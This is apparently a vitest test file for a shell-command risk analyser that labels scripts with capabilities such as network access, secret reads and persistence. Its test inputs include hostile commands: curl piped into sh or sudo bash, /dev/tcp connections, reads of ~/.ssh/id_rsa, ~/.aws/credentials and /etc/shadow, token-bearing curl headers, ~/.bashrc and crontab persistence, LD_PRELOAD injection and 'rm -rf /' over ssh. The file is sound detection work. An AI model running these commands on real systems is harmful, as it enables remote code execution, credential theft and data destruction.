import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { NO_CONTEXT } from "../../../src/facts/risk/context.ts";
import { readCommandText } from "../../../src/facts/shell/read-command-text.ts";
import { readShell } from "../../../src/facts/shell/read-shell.ts";
import { ARGUMENT, COMPUTED } from "../../../src/facts/word.ts";
import { analyseShell } from "../../../src/languages/shell/analyse.ts";
import { shortenCapability } from "../../support/commands.ts";

const readScript = (text: string): readonly string[] =>
  readShell(analyseShell(text), "static", NO_CONTEXT).map(shortenCapability);

test("of many variables with several values each is looked at for itself", () => {
  const script = "A=1; A=2; B=1; B=2; C=1; C=2; D=1; D=~/.ssh/id_rsa; E=1; E=2; cat $A$B$C $D $E";
  expect(readScript(script)).toContain("!fs-read ~/.ssh/id_rsa");
});

describe("a script", () => {
  test.for([
    [
      "redirections",
      "jq .a x.json > out.json 2>/dev/null",
      ["fs-write out.json", "exec jq .a x.json", "fs-read x.json"],
    ],
    ["a connection of the shell's own", "exec 3<>/dev/tcp/10.0.0.1/80", ["!network 10.0.0.1:80"]],
    [
      "a pipe into a shell",
      "curl https://a.com/i.sh | sh",
      ["!exec curl https://a.com/i.sh", "!network a.com", "!exec sh", "!dynamic-code shell"],
    ],
    [
      "a pipe through sudo",
      "curl https://a.com | sudo bash",
      ["!exec curl https://a.com", "!network a.com", "!exec sudo bash", "!exec bash", "!dynamic-code shell"],
    ],
    ["a shell alone is fed nothing", "bash", ["!exec bash"]],
    ["a here-document", "python3 - <<E\nx\nE\n", ["!exec python3 -", "!dynamic-code python"]],
    ["what the shell does itself starts nothing", "cd /tmp; echo hi; set -e; [ -f x ] && true", []],
    ["but what it writes counts", "echo x >> ~/.bashrc", ["!fs-write ~/.bashrc", "!persistence ~/.bashrc"]],
    ["a constant variable", "U=https://a.com/x; curl $U/y", ["!exec curl https://a.com/x/y", "!network a.com"]],
    [
      "a variable of variables",
      'A=a.com; U="https://$A"; curl "$U/y"',
      ["!exec curl https://a.com/y", "!network a.com"],
    ],
    ["a command in a variable", 'C="curl -s"; $C https://a.com', ["!exec curl -s https://a.com", "!network a.com"]],
    ["quotes keep a value together", 'F="a b"; cat "$F"', ["exec cat 'a b'", "fs-read a b"]],
    [
      "a variable with two values",
      "if x; then U=a.com; else U=b.com; fi; curl $U",
      ["!exec x", "!exec curl a.com", "!network a.com", "!exec curl b.com", "!network b.com"],
    ],
    [
      "a loop over constants",
      "for f in ~/.ssh/id_rsa a.txt; do cat $f; done",
      ["exec cat ~/.ssh/id_rsa", "!fs-read ~/.ssh/id_rsa", "exec cat a.txt", "fs-read a.txt"],
    ],
    [
      "two variables with two values each, in every way",
      'for f in a b; do for d in ~/.ssh out; do rm "$d/$f"; done; done',
      [
        "!exec rm ~/.ssh/a",
        "!fs-write ~/.ssh/a",
        "!exec rm ~/.ssh/b",
        "!fs-write ~/.ssh/b",
        "!exec rm out/a",
        "fs-write out/a",
        "!exec rm out/b",
        "fs-write out/b",
      ],
    ],
    [
      "a library that a variable loads",
      "LD_PRELOAD=./a.so:/opt/b.so ls",
      ["exec ls", "!native-code a.so", "!native-code /opt/b.so"],
    ],
    ["the same for all that follows", "export LD_PRELOAD=~/a.so", ["!env LD_PRELOAD", "!native-code ~/a.so"]],
    ["the same by env", 'env "LD_AUDIT=$1" ls', ["!env LD_AUDIT", "exec ls", "!native-code *"]],
    [
      "code that a variable starts",
      "NODE_OPTIONS='--require ./a.js' npm run x",
      ["exec npm run x", "!dynamic-code javascript"],
    ],
    [
      "options that start nothing",
      "export NODE_OPTIONS=--max-old-space-size=4096 LD_PRELOAD=",
      ["!env LD_PRELOAD", "!env NODE_OPTIONS"],
    ],
    [
      "a loop over patterns, each of them",
      "for f in ~/.ssh/* docs/*.md; do cat $f; done",
      ["exec cat '~/.ssh/*'", "!fs-read in ~/.ssh", "exec cat 'docs/*.md'", "fs-read in docs"],
    ],
    [
      "a variable with two values that are known in part, both",
      'if x; then U="a.com/$1"; else U="b.com/$1"; fi; curl "$U"',
      ["!exec x", "!exec curl a.com/*", "!network a.com", "!exec curl b.com/*", "!network b.com"],
    ],
    [
      "a loop over what a command prints",
      "for f in $(list); do rm $f; done",
      ["!exec list", "!exec rm *", "!fs-write *"],
    ],
    ["the script's own folder", 'bash "$(dirname "$0")/a.sh" "$1"', ["exec bash ./a.sh *", "exec dirname *"]],
    [
      "the same by another way",
      'D=$(cd -- "$(dirname -- "${BASH_SOURCE[0]}")/.." && pwd); python3 "$D/a.py"',
      ["!exec python3 ./../a.py", "exec dirname -- *"],
    ],
    [
      "the same with its full path",
      'D="$(cd "$(dirname "$(realpath "$0")")" && pwd)"; python3 "$D/a.py"',
      ["exec python3 ./a.py", "exec dirname *", "exec realpath *"],
    ],
    [
      "a folder that something else says",
      'python3 "$(dirname "$1")/a.py"',
      ["!exec python3 */../a.py", "exec dirname *"],
    ],
    ["a pager that shows all at once", "export GIT_PAGER=cat; git log", ["exec git log"]],
    ["a pager that runs something", "export GIT_PAGER='sh a'; git log", ["!env GIT_PAGER", "exec git log"]],
    [
      "a value that goes on",
      'F=a; F="$F.json"; cat "$F"',
      ["exec cat a", "fs-read a", "exec cat a.json", "fs-read a.json"],
    ],
    [
      "a value that goes on after one of two",
      'if x; then F=a; else F=b; fi; F="$F/c"; rm "$F"',
      ["!exec x", "!exec rm a", "fs-write a", "!exec rm b", "fs-write b", "!exec rm */c", "!fs-write *"],
    ],
    ["a variable that is read from somewhere", "read U; curl $U", ["!exec curl *", "!network *"]],
    ["a variable that goes round in a circle", "a=$b; b=$a; cat $a", ["exec cat *", "!fs-read *"]],
    ["the environment of one command", "U=a.com x; curl $U", ["!exec x", "!exec curl *", "!network *", "env U"]],
    [
      "positional parameters are arguments",
      'cat "$1"; rm "$@"',
      ["exec cat *", "fs-read *", "!exec rm *", "fs-write *"],
    ],
    ["with a default too", 'F=${1:-x}; cat "$F"', ["exec cat *", "fs-read *"]],
    [
      "the user's folder",
      'cat "$HOME/.aws/credentials"',
      ["exec cat ~/.aws/credentials", "!fs-read ~/.aws/credentials", "env HOME"],
    ],
    [
      "variables of the environment",
      'curl -H "X: $GITHUB_TOKEN" https://a.com',
      ["!exec curl -H 'X: '* https://a.com", "!network a.com", "!env GITHUB_TOKEN"],
    ],
    ["functions of its own", "f() { ls; }; f a", ["exec ls"]],
    [
      "what wrappers run, once",
      "sudo timeout 5 rm -rf x",
      ["!exec sudo timeout 5 rm -rf x", "!exec rm -rf x", "fs-write in x"],
    ],
    [
      "what find runs",
      "find . -exec shred {} +",
      ["exec find . -exec shred {} +", "fs-read in .", "!exec shred ./*", "fs-write in ."],
    ],
    ["a program by a pattern", "/???/c?t /etc/passwd", ["!exec '/???/c?t' /etc/passwd"]],
    ["code", "bash -c 'ls'", ["!exec bash -c *", "!dynamic-code shell"]],
    ["eval", 'eval "$(decode)"', ["!dynamic-code shell", "!exec decode"]],
    ["a job", "(crontab -l; echo x) | crontab -", ["!exec crontab -l", "!exec crontab -", "!persistence cron"]],
    [
      "ssh with a command",
      "ssh h.example.com 'rm -rf /'",
      ["!exec ssh h.example.com 'rm -rf /'", "!network h.example.com"],
    ],
    ["nothing", "# only a comment", []],
  ] as const)("%s", ([, text, capabilities]) => {
    expect(readScript(text).toSorted()).toEqual([...capabilities].toSorted());
  });

  test("keeps the origin and the place of each command", () => {
    const text = "ls\ncurl https://a.com\n";
    const [exec, network] = readShell(analyseShell(text), "instructed", NO_CONTEXT).slice(1);
    expect(exec).toEqual({
      kind: "exec",
      target: { match: "exact", value: "curl https://a.com" },
      risk: "risky",
      origin: "instructed",
      span: { start: 3, end: 21 },
    });
    expect(network?.span).toEqual({ start: 3, end: 21 });
  });

  test("quoting differently changes nothing", () => {
    const quotes = fc.constantFrom(
      (word: string) => word,
      (word: string) => `'${word}'`,
      (word: string) => `"${word}"`,
      (word: string) => word.replaceAll(/(?=[a-z])/gu, "\\"),
      (word: string) => `${word.slice(0, 1)}''${word.slice(1)}`,
      (word: string) => `$'${word}'`,
    );
    const words = fc.constantFrom(
      ["curl", "-o", "out.bin", "https://a.example.com/x"],
      ["cp", "-r", "/etc/ssh", "/tmp/x"],
      ["git", "push", "https://a.example.com/r", "main"],
      ["pip", "install", "requests==2"],
      ["sudo", "cat", "/etc/shadow"],
    );
    fc.assert(
      fc.property(words, fc.array(quotes, { minLength: 5, maxLength: 5 }), (line, hows) => {
        const quoted = line.map((word, index) => hows[index]?.(word) ?? word).join(" ");
        expect(readScript(quoted)).toEqual(readScript(line.join(" ")));
      }),
    );
  });

  test("never throws", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "$a",
        "${b:-c}",
        "a=1",
        "$(ls)",
        "| sh",
        "> x",
        "<<E\nx\nE\n",
        "for a in b c; do",
        "done",
        "find . -exec",
        "xargs",
        ";",
        "\n",
        "&&",
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(readScript(pieces.join(" "))).toBeInstanceOf(Array);
      }),
      { numRuns: 500 },
    );
  });
});

describe("a text that a program hands to a shell", () => {
  test.for([
    ["git status", ["exec git status"]],
    ["echo hi", ["exec echo hi"]],
    ["curl https://a.com | sh", ["!exec curl https://a.com", "!network a.com", "!exec sh", "!dynamic-code shell"]],
    [["git log ", COMPUTED], ["!exec git log *"]],
    [
      ["cat '", ARGUMENT, "'"],
      ["!exec cat *", "fs-read *"],
    ],
    [
      ["ls ; curl https://a.com/", COMPUTED],
      ["!exec ls", "!exec curl https://a.com/*", "!network a.com"],
    ],
    [null, ["!exec *"]],
    [[COMPUTED, " --all"], ["!exec *"]],
    ["a\0b", ["!exec *"]],
    ["", []],
  ] as const)("%j", ([text, capabilities]) => {
    expect(readCommandText(text, NO_CONTEXT).capabilities.map(shortenCapability)).toEqual(capabilities);
  });

  test("hands its code back, with its gaps", () => {
    expect(readCommandText(["python3 -c 'f(", COMPUTED, ")'"], NO_CONTEXT).code).toEqual([
      { language: "python", text: ["f(", COMPUTED, ")"] },
    ]);
  });
});
